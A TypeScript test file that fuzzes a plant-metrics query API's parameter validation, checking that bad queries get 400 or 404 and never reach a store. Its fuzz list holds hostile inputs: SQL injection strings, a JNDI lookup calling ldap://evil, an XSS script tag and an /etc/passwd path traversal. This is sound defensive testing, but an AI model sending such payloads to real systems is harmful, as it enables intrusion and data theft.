/**
 * Parameter validation of the query API, on counting fakes: every invalid
 * query is answered 400 (or 404 for the route) with a pointer per parameter,
 * and never reaches a store.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { METRIC_NAMES } from '../../lambdas/domain/catalog.ts';
import type { MetricsStore } from '../../lambdas/domain/metrics-ports.ts';
import { defaultPlantConfig } from '../../lambdas/domain/plant.ts';
import type { StateStore, StoredReading } from '../../lambdas/domain/ports.ts';
import { QueryRefusedError, UnavailableError } from '../../lambdas/domain/ports.ts';
import {
  makeKpisHandler,
  makeSeriesHandler,
  type QueryApiDeps,
  type QueryEvent,
} from '../../lambdas/handlers/query-api.ts';
import { FixedClock } from '../support/memory-ports.ts';

const PLANT = 'kz-ast-01';
const FROM = '2026-11-23T00:00:00+05:00';
const TO = '2026-11-25T00:00:00+05:00';
const DAY = 86_400_000;

/** A store that answers nothing and counts every call, plant lookups included. */
class CountingStores {
  calls = 0;
  failWith: Error | undefined;
  readonly metrics: QueryApiDeps['metrics'] = {
    readReadings: async () => this.call<StoredReading[]>([]),
    readLastBefore: async () => this.call<StoredReading[]>([]),
    readMovements: async () => this.call([]),
  };
  readonly plants: Pick<StateStore, 'getPlant'> = {
    getPlant: async (plantId) => this.call(plantId === PLANT ? defaultPlantConfig(PLANT) : undefined),
  };
  private call<T>(value: T): T {
    this.calls++;
    if (this.failWith) throw this.failWith;
    return value;
  }
  deps(): QueryApiDeps {
    return { metrics: this.metrics, plants: this.plants, clock: new FixedClock(Date.parse(TO)) };
  }
}

type Query = Record<string, string | undefined>;

function event(
  route: 'kpis' | 'series',
  query: Query | null,
  extra: Partial<QueryEvent> & { plantId?: unknown } = {},
): QueryEvent {
  const { plantId = PLANT, ...rest } = extra;
  return {
    httpMethod: 'GET',
    path: `/v1/plants/${String(plantId)}/${route}`,
    headers: {},
    body: null,
    isBase64Encoded: false,
    pathParameters: { plantId: plantId as string },
    queryStringParameters: query,
    ...rest,
  };
}

const validKpis: Query = { from: FROM, to: TO, interval: '1h' };
const validSeries: Query = { metric: 'furnace_temperature', from: FROM, to: TO, interval: '15m', agg: 'max' };

async function call(route: 'kpis' | 'series', e: QueryEvent, stores = new CountingStores()) {
  const handler = route === 'kpis' ? makeKpisHandler(stores.deps()) : makeSeriesHandler(stores.deps());
  const response = await handler(e);
  return { response, body: JSON.parse(response.body) as Record<string, unknown>, calls: stores.calls };
}

function pointersOf(body: Record<string, unknown>): string[] {
  return ((body.errors ?? []) as Array<{ pointer: string }>).map((e) => e.pointer).sort();
}

describe('query API parameter validation', () => {
  it.each<[string, 'kpis' | 'series', Query, string[]]>([
    ['from missing', 'kpis', { to: TO, interval: '1h' }, ['/query/from']],
    ['from without offset', 'kpis', { ...validKpis, from: '2026-11-23T00:00:00' }, ['/query/from']],
    [
      'from a date that does not exist',
      'kpis',
      { ...validKpis, from: '2026-02-30T00:00:00Z' },
      ['/query/from'],
    ],
    ['from in words', 'kpis', { ...validKpis, from: 'yesterday' }, ['/query/from']],
    ['from empty', 'kpis', { ...validKpis, from: '' }, ['/query/from']],
    ['from negative epoch ms', 'kpis', { ...validKpis, from: '-1' }, ['/query/from']],
    ['from epoch ms beyond any date', 'kpis', { ...validKpis, from: '99999999999999999' }, ['/query/from']],
    ['from before 1970', 'kpis', { ...validKpis, from: '1969-12-31T23:59:59Z' }, ['/query/from']],
    ['from a fractional epoch', 'kpis', { ...validKpis, from: '1795514390000.5' }, ['/query/from']],
    ['to missing', 'kpis', { from: FROM, interval: '1h' }, ['/query/to']],
    ['to equal to from', 'kpis', { ...validKpis, to: FROM }, ['/query/to']],
    ['to before from', 'kpis', { ...validKpis, from: TO, to: FROM }, ['/query/to']],
    [
      '1h KPIs over 31 days and 1 ms',
      'kpis',
      { ...validKpis, from: '0', to: String(31 * DAY + 1) },
      ['/query/to'],
    ],
    [
      '1d KPIs over 366 days and 1 ms',
      'kpis',
      { from: '0', to: String(366 * DAY + 1), interval: '1d' },
      ['/query/to'],
    ],
    ['interval missing', 'kpis', { from: FROM, to: TO }, ['/query/interval']],
    ['a series interval for KPIs', 'kpis', { ...validKpis, interval: '15m' }, ['/query/interval']],
    ['interval in upper case', 'kpis', { ...validKpis, interval: '1H' }, ['/query/interval']],
    ['a misspelt parameter', 'kpis', { ...validKpis, intervall: '1d' }, ['/query/intervall']],
    ['a series parameter on KPIs', 'kpis', { ...validKpis, metric: 'co' }, ['/query/metric']],
    ['a cursor this API never returned', 'kpis', { ...validKpis, cursor: 'abc' }, ['/query/cursor']],
    ['a cursor that is not base64url', 'kpis', { ...validKpis, cursor: 'a+b/c=' }, ['/query/cursor']],
    [
      'everything wrong at once',
      'kpis',
      { from: 'x', to: '', interval: '2h', cursor: '!' },
      ['/query/cursor', '/query/from', '/query/interval', '/query/to'],
    ],
    ['metric missing', 'series', { ...validSeries, metric: undefined }, ['/query/metric']],
    ['a metric not in the catalog', 'series', { ...validSeries, metric: 'furnace_temp' }, ['/query/metric']],
    ['metric __proto__', 'series', { ...validSeries, metric: '__proto__' }, ['/query/metric']],
    ['metric constructor', 'series', { ...validSeries, metric: 'constructor' }, ['/query/metric']],
    ['a series interval not offered', 'series', { ...validSeries, interval: '2h' }, ['/query/interval']],
    ['series interval missing', 'series', { ...validSeries, interval: undefined }, ['/query/interval']],
    ['agg median', 'series', { ...validSeries, agg: 'median' }, ['/query/agg']],
    ['agg empty', 'series', { ...validSeries, agg: '' }, ['/query/agg']],
    ['agg in upper case', 'series', { ...validSeries, agg: 'AVG' }, ['/query/agg']],
    ['a line with a space', 'series', { ...validSeries, line: 'boiler 1' }, ['/query/line']],
    ['a line of 65 characters', 'series', { ...validSeries, line: 'a'.repeat(65) }, ['/query/line']],
    [
      '100,001 buckets of 1m',
      'series',
      { ...validSeries, interval: '1m', from: '0', to: String(100_000 * 60_000 + 1) },
      ['/query/to'],
    ],
    ['to after year 9999', 'series', { ...validSeries, to: '253402300800000' }, ['/query/to']],
    ['a value of 129 characters', 'series', { ...validSeries, line: 'a'.repeat(129) }, ['/query/line']],
  ])('answers 400 with the pointer for %s, and calls no store', async (_name, route, query, pointers) => {
    const { response, body, calls } = await call(route, event(route, query));
    expect(response.statusCode).toBe(400);
    expect(response.headers?.['content-type']).toBe('application/problem+json');
    expect(body).toMatchObject({
      type: 'urn:wte:problem:invalid-query',
      status: 400,
      title: 'Invalid query',
    });
    expect(pointersOf(body)).toEqual(pointers);
    expect(calls).toBe(0);
  });

  it.each<[string, 'kpis' | 'series', Query]>([
    ['1h KPIs over exactly 31 days', 'kpis', { ...validKpis, from: '0', to: String(31 * DAY) }],
    ['1d KPIs over exactly 366 days', 'kpis', { from: '0', to: String(366 * DAY), interval: '1d' }],
    ['epoch milliseconds', 'kpis', { ...validKpis, from: '1795464000000', to: '1795550400000' }],
    [
      'exactly 100,000 buckets of 1m',
      'series',
      { ...validSeries, interval: '1m', from: '0', to: '6000000000' },
    ],
    ['agg left out (avg)', 'series', { ...validSeries, agg: undefined }],
    ['a line', 'series', { ...validSeries, line: 'boiler-1' }],
    ['every series interval', 'series', { ...validSeries, interval: '1d' }],
  ])('accepts %s', async (_name, route, query) => {
    const { response, calls } = await call(route, event(route, query));
    expect(response.statusCode).toBe(200);
    expect(calls).toBeGreaterThan(0);
  });

  it('answers avg when agg is left out', async () => {
    const { body } = await call('series', event('series', { ...validSeries, agg: undefined }));
    expect(body).toMatchObject({ agg: 'avg', unit: 'degC', timezone: 'Asia/Almaty', points: [] });
  });

  it('refuses a parameter given twice, even with the same value', async () => {
    const e = event('kpis', validKpis, {
      multiValueQueryStringParameters: { from: [FROM, FROM], to: [TO], interval: ['1h'] },
    });
    const { response, body, calls } = await call('kpis', e);
    expect(response.statusCode).toBe(400);
    expect(pointersOf(body)).toEqual(['/query/from']);
    expect(calls).toBe(0);
  });

  it('reads parameters a server passes only as multi-value lists of one', async () => {
    const e = event('kpis', null, {
      multiValueQueryStringParameters: { from: [FROM], to: [TO], interval: ['1d'] },
    });
    const { response, body } = await call('kpis', e);
    expect(response.statusCode).toBe(200);
    expect(body.interval).toBe('1d');
  });

  it('refuses a parameter named __proto__ as API Gateway delivers it (an own property)', async () => {
    const query = JSON.parse(`{"__proto__": {"interval": "1d"}, "from": "${FROM}", "to": "${TO}"}`) as Query;
    const { response, body, calls } = await call('kpis', event('kpis', query));
    expect(response.statusCode).toBe(400);
    expect(pointersOf(body)).toEqual(['/query/__proto__', '/query/interval']);
    expect(calls).toBe(0);
  });

  it('never echoes an unknown parameter name that is long or odd, and reports unknown names once', async () => {
    const odd = `x'); DROP TABLE readings; --${'y'.repeat(300)}`;
    const { response, body } = await call('kpis', event('kpis', { ...validKpis, [odd]: '1', other: '2' }));
    expect(response.statusCode).toBe(400);
    expect(pointersOf(body)).toEqual(['/query']);
    expect(response.body).not.toContain('DROP');
  });
});

describe('query API routes', () => {
  it.each([
    ['upper case', 'KZ-AST-01'],
    ['empty', ''],
    ['65 characters', 'a'.repeat(65)],
    ['a quote', "kz-ast-01'"],
    ['a slash', 'kz/ast'],
    ['not text', ['kz-ast-01']],
    ['absent', undefined],
  ])('answers 404 for a plant id that is %s, and calls no store', async (_name, plantId) => {
    for (const route of ['kpis', 'series'] as const) {
      const e = event(route, route === 'kpis' ? validKpis : validSeries, { plantId });
      if (plantId === undefined) Object.assign(e, { pathParameters: null });
      const { response, body, calls } = await call(route, e);
      expect(response.statusCode).toBe(404);
      expect(body).toMatchObject({ type: 'urn:wte:problem:not-found', status: 404 });
      expect(calls).toBe(0);
    }
  });

  it('answers 404 to a method other than GET', async () => {
    const { response, calls } = await call('kpis', event('kpis', validKpis, { httpMethod: 'POST' }));
    expect(response.statusCode).toBe(404);
    expect(calls).toBe(0);
  });
});

describe('query API store failures', () => {
  it.each([
    ['unavailable', new UnavailableError('timestream throttled (secret detail)', 9), '9'],
    ['failing otherwise', new Error('connection string postgres://secret'), '5'],
  ])(
    'answers 503 with Retry-After when a store is %s, without its words',
    async (_name, error, retryAfter) => {
      for (const route of ['kpis', 'series'] as const) {
        const stores = new CountingStores();
        stores.failWith = error;
        const { response, body } = await call(
          route,
          event(route, route === 'kpis' ? validKpis : validSeries),
          stores,
        );
        expect(response.statusCode).toBe(503);
        expect(response.headers?.['retry-after']).toBe(retryAfter);
        expect(body.type).toBe('urn:wte:problem:unavailable');
        expect(response.body).not.toContain('secret');
      }
    },
  );

  it('answers 503 when readings fail after the plant was found', async () => {
    const stores = new CountingStores();
    const deps: QueryApiDeps = {
      ...stores.deps(),
      metrics: {
        ...stores.metrics,
        readReadings: async () => {
          throw new UnavailableError('down', 3);
        },
      } satisfies Pick<MetricsStore, 'readReadings' | 'readLastBefore' | 'readMovements'>,
    };
    const response = await makeSeriesHandler(deps)(event('series', validSeries));
    expect(response.statusCode).toBe(503);
    expect(response.headers?.['retry-after']).toBe('3');
  });

  it.each([
    [true, 400, undefined, 'narrow the range'],
    [false, 503, '60', 'retry later'],
  ])(
    'answers a store that refuses the query for good (too large: %s) with %i, never a retry loop of 5 s',
    async (tooLarge, status, retryAfter, words) => {
      const stores = new CountingStores();
      const deps: QueryApiDeps = {
        ...stores.deps(),
        metrics: {
          ...stores.metrics,
          readReadings: async () => {
            throw new QueryRefusedError('refused', tooLarge);
          },
        },
      };
      const response = await makeSeriesHandler(deps)(event('series', validSeries));
      expect(response.statusCode).toBe(status);
      expect(response.headers?.['retry-after']).toBe(retryAfter);
      expect(JSON.parse(response.body).detail).toContain(words);
      expect(response.body).not.toContain('refused');
    },
  );
});

// ---------------------------------------------------------------------------
// Injection property: any invalid value, anywhere, is 400 (404 in the path) and no store call.

const NASTY = [
  "' OR '1'='1",
  "'; DROP TABLE readings; --",
  '" OR ""="',
  "furnace_temperature' UNION SELECT * FROM movements --",
  '1 OR 1=1',
  '%27%20OR%201%3D1',
  '\\',
  "'",
  '"',
  '`',
  '\u0000',
  '\n',
  '\u202e1h',
  '1\u200bh',
  'ａｖｇ',
  '１ｈ',
  '😀',
  '\u0024{jndi:ldap://evil/x}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  ' ',
  '',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e12',
  '0x10',
  '__proto__',
  'constructor',
  'toString',
];

const nastyText = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.string({ minLength: 129, maxLength: 3000 }),
  fc.constant('9'.repeat(100_000)),
);

/** Invalid for a parameter: an injection appended to a valid value, or nasty text, filtered by the spec. */
function invalidFor(valid: string, isValid: (value: string) => boolean): fc.Arbitrary<string> {
  return fc
    .oneof(
      nastyText,
      nastyText.filter((s) => s.length > 0).map((s) => `${valid}${s}`),
    )
    .filter((value) => !isValid(value));
}

const INTERVALS_BY_ROUTE = { kpis: ['1h', '1d'], series: ['1m', '5m', '15m', '30m', '1h', '6h', '1d'] };
const AGGS = ['avg', 'min', 'max', 'last'];
// RFC 3339 with offset or digits: a valid timestamp followed by anything is never valid.
const TIMESTAMPISH = /^(\d{1,16}|\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,9})?(Z|[+-]\d{2}:\d{2}))$/i;

type Corruption =
  | { kind: 'value'; name: string; value: string }
  | { kind: 'repeated'; name: string }
  | { kind: 'array'; name: string }
  | { kind: 'unknown'; name: string; value: string }
  | { kind: 'plantId'; value: string };

function corruptions(route: 'kpis' | 'series'): fc.Arbitrary<Corruption> {
  const params = route === 'kpis' ? ['from', 'to', 'interval'] : ['metric', 'from', 'to', 'interval', 'agg'];
  const allowed = [...params, 'cursor', ...(route === 'series' ? ['line', 'agg'] : [])];
  const value = fc.oneof(
    invalidFor(FROM, (v) => TIMESTAMPISH.test(v)).map((v) => ({
      kind: 'value' as const,
      name: 'from',
      value: v,
    })),
    invalidFor(TO, (v) => TIMESTAMPISH.test(v)).map((v) => ({
      kind: 'value' as const,
      name: 'to',
      value: v,
    })),
    invalidFor('1h', (v) => INTERVALS_BY_ROUTE[route].includes(v)).map((v) => ({
      kind: 'value' as const,
      name: 'interval',
      value: v,
    })),
    nastyText.map((v) => ({ kind: 'value' as const, name: 'cursor', value: v })),
    ...(route === 'series'
      ? [
          invalidFor('steam_flow', (v) => (METRIC_NAMES as string[]).includes(v)).map((v) => ({
            kind: 'value' as const,
            name: 'metric',
            value: v,
          })),
          invalidFor('avg', (v) => AGGS.includes(v)).map((v) => ({
            kind: 'value' as const,
            name: 'agg',
            value: v,
          })),
          invalidFor('boiler-1', (v) => /^[A-Za-z0-9._:-]{1,64}$/.test(v)).map((v) => ({
            kind: 'value' as const,
            name: 'line',
            value: v,
          })),
        ]
      : []),
  );
  return fc.oneof(
    { arbitrary: value, weight: 6 },
    fc.constantFrom(...params).map((name) => ({ kind: 'repeated' as const, name })),
    fc.constantFrom(...params).map((name) => ({ kind: 'array' as const, name })),
    fc
      .record({
        name: fc.oneof(fc.constantFrom('__proto__', 'constructor', 'q', 'sql', 'limit', "a'b"), nastyText),
        value: nastyText,
      })
      .filter(({ name }) => !allowed.includes(name))
      .map(({ name, value: v }) => ({ kind: 'unknown' as const, name, value: v })),
    invalidFor(PLANT, (v) => /^[a-z0-9-]{1,64}$/.test(v)).map((v) => ({
      kind: 'plantId' as const,
      value: v,
    })),
  );
}

function corruptedEvent(route: 'kpis' | 'series', list: readonly Corruption[]): QueryEvent {
  const query: Record<string, unknown> = { ...(route === 'kpis' ? validKpis : validSeries) };
  const multi: Record<string, string[]> = {};
  let plantId = PLANT;
  // defineProperty, so a parameter named __proto__ is an own property, as JSON.parse makes it
  const set = (name: string, value: unknown) =>
    Object.defineProperty(query, name, { value, enumerable: true, writable: true, configurable: true });
  for (const c of list) {
    if (c.kind === 'value' || c.kind === 'unknown') set(c.name, c.value);
    else if (c.kind === 'repeated')
      multi[c.name] = [String(query[c.name] ?? '1h'), String(query[c.name] ?? '1h')];
    else if (c.kind === 'array') set(c.name, [String(query[c.name]), 'x']);
    else plantId = c.value;
  }
  return event(route, query as Query, {
    plantId,
    ...(Object.keys(multi).length > 0 ? { multiValueQueryStringParameters: multi } : {}),
  });
}

describe('query API injection property', () => {
  it.each(['kpis', 'series'] as const)(
    '%s: any invalid parameter value gives 400 (404 in the path), a bounded problem, and no store call',
    async (route) => {
      await fc.assert(
        fc.asyncProperty(fc.array(corruptions(route), { minLength: 1, maxLength: 3 }), async (list) => {
          const { response, body, calls } = await call(route, corruptedEvent(route, list));
          const inPath = list.some((c) => c.kind === 'plantId');
          expect(calls).toBe(0);
          expect(response.statusCode).toBe(inPath ? 404 : 400);
          expect(body.type).toBe(inPath ? 'urn:wte:problem:not-found' : 'urn:wte:problem:invalid-query');
          if (!inPath) expect((body.errors as unknown[]).length).toBeGreaterThan(0);
          expect(response.body.length).toBeLessThan(2_000);
          for (const c of list) {
            if ('value' in c && c.value.length >= 16) expect(response.body).not.toContain(c.value);
          }
        }),
        { numRuns: 600 },
      );
    },
  );

  it('reaches the stores with the same queries uncorrupted (the counter can see calls)', async () => {
    for (const route of ['kpis', 'series'] as const) {
      const { response, calls } = await call(route, corruptedEvent(route, []));
      expect(response.statusCode).toBe(200);
      expect(calls).toBeGreaterThan(0);
    }
  });
});
